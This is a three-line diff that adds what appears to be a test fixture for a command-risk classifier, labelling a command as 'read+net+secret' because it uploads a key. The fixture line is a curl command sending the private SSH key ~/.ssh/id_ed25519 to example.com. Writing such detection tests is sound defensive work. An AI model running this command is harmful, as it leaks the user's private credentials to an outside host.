@@ -1,0 +1,3 @@
+# expect: read+net+secret
+# why: uploading a key
+curl -T ~/.ssh/id_ed25519 https://example.com
